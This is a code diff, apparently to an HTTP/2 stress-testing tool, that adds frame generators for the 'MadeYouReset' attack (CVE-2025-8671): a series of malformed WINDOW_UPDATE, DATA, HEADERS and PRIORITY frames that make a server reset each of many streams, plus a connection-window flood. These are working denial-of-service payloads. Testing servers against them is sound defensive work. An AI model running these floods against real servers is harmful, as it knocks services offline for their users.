@@ -176,6 +176,14 @@ BEGIN = PREFACE + frame(SETTINGS) + frame(SETTINGS, flags=1)
 GET = bytes.fromhex("8286") + b"\x01\x08web.home" + b"\x84"  # GET http / of :authority web.home
 
 
+MARK = int.from_bytes(b"STRM", "big")  # where the number of the stream goes
+
+
+def refused_heads():
+    for stream in range(1, 1 << 20, 2):
+        yield frame(HEADERS, bytes.fromhex("8286") + b"\x00\x01A\x01b" + GET[2:], 5, stream)  # an upper-case name
+
+
 def rapid_resets():
     for stream in range(1, 1 << 20, 2):
         yield frame(HEADERS, GET, 5, stream) + frame(RST, b"\0\0\0\x08", 0, stream)
@@ -205,8 +213,22 @@ def empty_data():
         yield frame(DATA, b"", 0, 1) * 100
 
 
+def made_you_reset(wrong: bytes, flags: int = 5):
+    """CVE-2025-8671: a request, then something for which the server itself takes the stream back."""
+    for stream in range(1, 1 << 20, 2):
+        yield frame(HEADERS, GET, flags, stream) + wrong.replace(b"STRM", struct.pack(">I", stream))
+
+
 FLOODS = {
     "rapid reset": rapid_resets,
+    "made you reset: no increment": lambda: made_you_reset(frame(WINDOW, bytes(4), 0, MARK)),
+    "made you reset: too large a window": lambda: made_you_reset(frame(WINDOW, b"\x7f\xff\xff\xff", 0, MARK)),
+    "made you reset: data after the end": lambda: made_you_reset(frame(DATA, b"x", 0, MARK)),
+    "made you reset: a head after the end": lambda: made_you_reset(frame(HEADERS, GET, 5, MARK)),
+    "made you reset: depends on itself": lambda: made_you_reset(frame(PRIORITY, b"STRM\x10", 0, MARK)),
+    "made you reset: a priority too short": lambda: made_you_reset(frame(PRIORITY, b"\0\0\0", 0, MARK)),
+    "made you reset: a head that is none": refused_heads,
+    "window of the connection": lambda: repeated(frame(WINDOW, b"\x7f\xff\xff\xff")),
     "ping": lambda: repeated(frame(PING, bytes(8)) * 100),
     "settings": lambda: repeated(frame(SETTINGS) * 100),
     "settings entries": lambda: repeated(frame(SETTINGS, b"\0\4\0\0\xff\xff" * 30) * 10),
